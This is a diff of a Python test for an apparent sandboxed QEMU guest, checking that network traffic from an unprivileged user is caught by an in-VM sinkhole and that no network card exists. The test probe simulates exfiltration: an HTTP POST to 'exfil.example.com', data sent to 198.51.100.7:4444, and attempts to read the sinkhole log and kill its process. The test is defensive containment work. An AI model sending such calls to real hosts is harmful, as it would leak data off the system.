@@ -1,8 +1,9 @@
-"""The real guest image under QEMU (TCG): boot, restore, SSH, Python, no network."""
+"""The real guest image under QEMU (TCG): boot, restore, SSH, Python, a sinkhole, no NIC."""
 
 from __future__ import annotations
 
 import asyncio
+import json
 import os
 import time
 from pathlib import Path
@@ -43,24 +44,108 @@ async def test_cold_boot_runs_python(image: Image, tmp_path: Path) -> None:
     assert result.stdout.split() == [image.python_full_version, "0"]
 
 
-async def test_guest_has_no_network(image: Image, tmp_path: Path) -> None:
-    """Only the loopback interface exists and connecting out fails with ENETUNREACH."""
-    probe = (
-        "import os, socket, errno\n"
-        "print(sorted(os.listdir('/sys/class/net')))\n"
-        "s = socket.socket()\n"
-        "try:\n"
-        "    s.connect(('192.0.2.1', 80))\n"
-        "    print('connected')\n"
-        "except OSError as e:\n"
-        "    print(errno.errorcode[e.errno])\n"
-    )
+#: Run in the guest as root: the sinkhole seen by user tester, and what proves nothing leaves.
+SINKHOLE_PROBE = r"""
+import errno, json, os, socket, subprocess, sys, urllib.request
+
+def as_tester():
+    r, w = os.pipe()
+    if os.fork() == 0:
+        os.close(r)
+        os.setgroups([]); os.setgid(1000); os.setuid(1000)
+        out = {}
+        out["addr"] = socket.getaddrinfo("exfil.example.com", 80, socket.AF_INET)[0][4][0]
+        req = urllib.request.Request("http://exfil.example.com/up?x=1", data=b"k=v", method="POST")
+        out["http"] = urllib.request.urlopen(req, timeout=10).read().decode()
+        with socket.create_connection(("198.51.100.7", 4444), timeout=10) as s:
+            s.sendall(b"hello")
+            out["eof"] = s.recv(10) == b""
+        for name, family, addr in (("v6", socket.AF_INET6, ("2001:db8::1", 80)),
+                                   ("loopback", socket.AF_INET, ("127.0.0.1", 9))):
+            s = socket.socket(family)
+            try:
+                s.connect(addr); out[name] = "connected"
+            except OSError as e:
+                out[name] = errno.errorcode[e.errno]
+        try:
+            open("/run/pyti-sinkhole/events.jsonl").read(); out["log"] = "readable"
+        except OSError as e:
+            out["log"] = errno.errorcode[e.errno]
+        try:
+            os.kill(int(sys.argv[1]), 9); out["kill"] = "killed"
+        except OSError as e:
+            out["kill"] = errno.errorcode[e.errno]
+        os.write(w, json.dumps(out).encode()); os._exit(0)
+    os.close(w)
+    data = b""
+    while chunk := os.read(r, 65536):
+        data += chunk
+    os.wait()
+    return json.loads(data)
+
+result = {"tester": as_tester()}
+result["ifaces"] = sorted(os.listdir("/sys/class/net"))
+result["sink0"] = subprocess.run(["ip", "-d", "link", "show", "sink0"], capture_output=True,
+                                 text=True).stdout
+result["virtio"] = sorted(open(p + "/device").read().strip()
+                          for p in (f"/sys/bus/virtio/devices/{d}"
+                                    for d in os.listdir("/sys/bus/virtio/devices")))
+result["pci_classes"] = sorted(open(f"/sys/bus/pci/devices/{d}/class").read().strip()
+                               for d in os.listdir("/sys/bus/pci/devices"))
+result["log"] = [json.loads(l) for l in open("/run/pyti-sinkhole/events.jsonl")]
+print(json.dumps(result))
+"""
+
+
+def _qemu_argv(vm_dir: Path) -> list[str]:
+    """The command line of the QEMU process running the VM in ``vm_dir`` (read from /proc)."""
+    for proc in Path("/proc").iterdir():
+        try:
+            argv = (proc / "cmdline").read_bytes().decode(errors="replace").split("\0")
+        except OSError:
+            continue
+        if argv and "qemu" in argv[0] and any(str(vm_dir) in a for a in argv):
+            return argv
+    raise AssertionError(f"no QEMU process for {vm_dir}")
+
+
+async def test_guest_network_is_a_sinkhole_that_nothing_leaves(
+    image: Image, tmp_path: Path
+) -> None:
+    """tester's lookups, HTTP and TCP are answered inside the VM, recorded out of its reach;
+    no NIC exists (QEMU has no netdev, the guest no network device but lo and a dummy)."""
     async with (
         await VM.start(image, tmp_path, Accel.TCG) as vm,
         await Guest.connect(vm, image, timeout=30) as guest,
     ):
-        result = await guest.run(["python3", "-c", probe], timeout=30)
-    assert result.stdout.splitlines() == ["['lo']", "ENETUNREACH"]
+        argv = _qemu_argv(vm.dir)
+        pid = await guest.run("systemctl show -p MainPID --value pyti-sinkhole", timeout=30)
+        result = await guest.run(["python3", "-c", SINKHOLE_PROBE, pid.stdout.strip()], timeout=120)
+    assert argv[argv.index("-nic") + 1] == "none"
+    assert not any(a in ("-net", "-netdev") or "netdev" in a or "hostfwd" in a for a in argv)
+    assert result.exit_status == 0, result.stderr
+    got = json.loads(result.stdout)
+    tester = got["tester"]
+    assert tester["addr"].startswith("198.1")  # a sinkhole address (198.18.0.0/15)
+    assert tester["http"].startswith("#!/bin/sh")
+    assert tester["eof"] is True  # the catch-all listener closes: a payload never hangs on it
+    assert (tester["v6"], tester["loopback"]) == ("ENETUNREACH", "ECONNREFUSED")
+    assert (tester["log"], tester["kill"]) == ("EACCES", "EPERM")
+    assert got["ifaces"] == ["lo", "sink0"]
+    assert " dummy " in got["sink0"]
+    assert "0x0001" not in got["virtio"]  # virtio device id 1: network card
+    assert not [c for c in got["pci_classes"] if c.startswith("0x02")]  # PCI class 02: network
+    kinds = {
+        (e["kind"], e.get("qname") or e.get("dst")) for e in got["log"] if e.get("uid") == 1000
+    }
+    assert ("dns", "exfil.example.com") in kinds
+    assert ("tcp", "198.51.100.7:4444") in kinds
+    http = [e for e in got["log"] if e["kind"] == "http"]
+    assert [(e["method"], e["host"], e["path"], e["body_size"]) for e in http] == [
+        ("POST", "exfil.example.com", "/up?x=1", 3)
+    ]
+    data = [e for e in got["log"] if e["kind"] == "data"]
+    assert [(e["dst"], e["head"]) for e in data] == [("198.51.100.7:4444", "hello")]
 
 
 async def test_guest_user_bait_tools_and_runner(image: Image, tmp_path: Path) -> None:
